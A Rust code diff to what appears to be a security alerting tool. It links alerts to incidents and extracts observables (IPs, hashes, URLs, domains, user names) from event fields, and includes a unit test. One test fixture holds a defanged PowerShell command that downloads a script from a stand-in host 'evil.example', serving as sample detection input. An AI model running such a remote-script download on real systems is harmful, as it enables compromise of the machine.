@@ -29,7 +29,7 @@ use sha2::{Digest, Sha256};
 
 use crate::{InstanceId, SensorId, TenantId, Timestamp, UnknownWord, UserId};
 
-use crate::{AlertCommentId, AlertId};
+use crate::{AlertCommentId, AlertId, IncidentId};
 
 /// How many matching event ids an alert keeps (its `count` goes on beyond).
 pub const MAX_ALERT_EVENT_IDS: usize = 100;
@@ -645,6 +645,30 @@ pub struct Alert {
     pub created_at: Timestamp,
     /// When it last changed (folded or triaged).
     pub updated_at: Timestamp,
+    /// The incident it was linked to, if it was (an alert belongs to at most one).
+    pub incident: Option<IncidentId>,
+}
+
+/// Whether a matched field (lower-cased) names a user account
+/// (`User`, `TargetUserName`, `user.name`), not a user agent or a user id.
+fn is_user_field(name: &str) -> bool {
+    name.contains("user")
+        && !name.contains("agent")
+        && !name.ends_with("id")
+        && !name.ends_with("sid")
+        && !name.contains("domain")
+}
+
+/// Every string in a JSON value (itself, or inside its arrays and objects).
+fn string_leaves<'a>(value: &'a serde_json::Value, into: &mut Vec<&'a str>) {
+    match value {
+        serde_json::Value::String(text) => into.push(text),
+        serde_json::Value::Array(items) => items.iter().for_each(|item| string_leaves(item, into)),
+        serde_json::Value::Object(fields) => {
+            fields.values().for_each(|item| string_leaves(item, into));
+        }
+        _ => {}
+    }
 }
 
 impl Alert {
@@ -676,7 +700,55 @@ impl Alert {
             exercise: signal.exercise,
             created_at: at,
             updated_at: at,
+            incident: None,
         }
+    }
+
+    /// The observables an incident gains when this alert is linked to it:
+    /// addresses, domains, URLs, hashes, e-mail addresses and CVE ids in the
+    /// matched fields' values (hash fields like `Hashes` hold
+    /// `SHA256=...,MD5=...`), user names from user fields and the alert's
+    /// user, and its host when the host is a domain name. Each once, in
+    /// order of first appearance.
+    pub fn observables(&self) -> Vec<crate::Observable> {
+        let mut found: Vec<crate::Observable> = Vec::new();
+        let mut push = |observable: crate::Observable| {
+            if !found.contains(&observable) {
+                found.push(observable);
+            }
+        };
+        for (field, value) in &self.matched_fields {
+            let name = field.to_ascii_lowercase();
+            let mut texts = Vec::new();
+            string_leaves(value, &mut texts);
+            for text in texts {
+                if is_user_field(&name) {
+                    if let Ok(user) = crate::Observable::parse("user", text) {
+                        push(user);
+                    }
+                } else if name.contains("hash") {
+                    // `SHA256=ab..,MD5=cd..`: the algorithm names are no observables.
+                    for observable in crate::extract_observables(&text.replace('=', " ")) {
+                        push(observable);
+                    }
+                } else {
+                    for observable in crate::extract_observables(text) {
+                        push(observable);
+                    }
+                }
+            }
+        }
+        if let Some(user) = &self.user
+            && let Ok(user) = crate::Observable::parse("user", user)
+        {
+            push(user);
+        }
+        if let Some(host) = &self.host
+            && let Ok(domain) = crate::Observable::parse("domain", host)
+        {
+            push(domain);
+        }
+        found
     }
 
     /// Which signals may fold into this alert.
@@ -1112,6 +1184,53 @@ mod tests {
         signal.host = Some("WEB-1".into());
         signal.user = Some("alice".into());
         signal
+    }
+
+    #[test]
+    fn an_alert_yields_the_observables_of_its_fields_user_and_host() {
+        let mut signal = signal("e1", 0);
+        signal.host = Some("ws-7.corp.example".into());
+        signal.user = Some("CORP\\Alice".into());
+        for (field, value) in [
+            ("DestinationIp", serde_json::json!("192.0.2.7")),
+            (
+                "Hashes",
+                serde_json::json!(
+                    "SHA256=9F86D081884C7D659A2FEAA0C55AD015A3BF4F1B2B0B822CD15D6C15B0F00A08,IMPHASH=00"
+                ),
+            ),
+            (
+                "CommandLine",
+                serde_json::json!("powershell.exe -c iwr hxxp://evil[.]example/x.ps1"),
+            ),
+            ("TargetUserName", serde_json::json!(["svc-backup", "-"])),
+            ("UserAgent", serde_json::json!("curl/8.0")),
+            ("EventID", serde_json::json!(4625)),
+        ] {
+            signal.matched_fields.insert(field.into(), value);
+        }
+        let alert = Alert::open(&signal, InstanceId::from_uuid(uuid::Uuid::nil()), at(0));
+        let found: std::collections::BTreeSet<String> = alert
+            .observables()
+            .iter()
+            .map(ToString::to_string)
+            .collect();
+        assert_eq!(
+            found,
+            std::collections::BTreeSet::from([
+                "ipv4:192.0.2.7",
+                "sha256:9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08",
+                "url:http://evil.example/x.ps1",
+                "domain:evil.example",
+                "user:svc-backup",
+                "user:corp\\alice",
+                "domain:ws-7.corp.example",
+            ])
+            .into_iter()
+            .map(str::to_owned)
+            .collect(),
+        );
+        assert_eq!(alert.observables().len(), found.len(), "each once");
     }
 
     #[test]
